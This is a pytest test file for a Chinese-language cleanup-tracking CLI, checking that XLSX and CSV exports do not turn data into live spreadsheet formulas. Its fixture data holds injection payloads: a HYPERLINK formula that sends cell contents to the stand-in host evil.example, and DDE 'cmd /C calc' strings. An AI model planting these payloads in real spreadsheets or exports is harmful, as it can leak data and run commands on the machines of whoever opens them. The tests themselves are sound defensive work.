"""No formula cell and no formula-initial CSV cell comes from data (issue 14)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.conftest import Invoke

FORMULAS = {
    "note": '=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"点击\\")',
    "text": "+cmd|' /C calc'!A0",
    "title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "finding": "-2+3",
}


def poison(mini: Path) -> None:
    text = mini.read_text(encoding="utf-8")
    for old, key in [
        ("note: 已清运约一半", "note"),
        ("text: 2024年2月底前，池北区组织对老粮库院内堆存垃圾分类处理。", "text"),
        ("title: 建筑垃圾混堆乱倒", "title"),
        ("text: 池南区完成积存渗滤液处理。", "text"),
        ("goal: 完成垃圾堆放点整治。", "note"),
    ]:
        assert old in text
        text = text.replace(old, f'{old.split(":")[0]}: "{FORMULAS[key]}"', 1)
    mini.write_text(text, encoding="utf-8")


def formula_cells(path: Path) -> list[str]:
    book = load_workbook(path)
    found = [
        f"{ws.title}!{c.coordinate}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name):
                found.append(name)
    return found


def texts(path: Path) -> list[str]:
    book = load_workbook(path)
    return [str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row]


@pytest.mark.parametrize(
    "args",
    [
        ["report", "--format", "xlsx"],
        ["report", "--public", "--format", "xlsx"],
        ["export-sheet", "--unit", "池北区"],
        ["export-sheet", "--unit", "池南区"],
    ],
)
def test_no_formula_cell_comes_from_data(
    mini: Path, tmp_path: Path, invoke: Invoke, args: list[str]
) -> None:
    poison(mini)
    out = tmp_path / "out.xlsx"
    result = invoke(*args, "-o", str(out), file=mini, as_of="2024-08-01")
    assert result.exit_code == 0, result.output
    assert formula_cells(out) == []
    shown = "\n".join(texts(out))
    assert "cmd|' /C calc'!A0" in shown  # kept as written, as text


@pytest.mark.parametrize(
    "args",
    [
        ["report", "--format", "csv"],
        ["report", "--public", "--format", "csv"],
        ["list", "--format", "csv"],
        ["overdue", "--format", "csv"],
        ["upcoming", "--format", "csv", "--within", "400d"],
    ],
)
def test_no_csv_cell_starts_a_formula(mini: Path, invoke: Invoke, args: list[str]) -> None:
    poison(mini)
    as_of = "2024-01-15" if args[0] == "upcoming" else "2024-08-01"
    result = invoke(*args, file=mini, as_of=as_of)
    assert result.exit_code in (0, 1), result.output
    cells = [c for row in csv.reader(io.StringIO(result.stdout)) for c in row]
    assert cells
    numbers = re.compile(r"-?\d+")  # rect's own numbers (days left): no data, no formula
    assert not [
        c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not numbers.fullmatch(c)
    ]
    assert any(c.startswith("'") for c in cells)
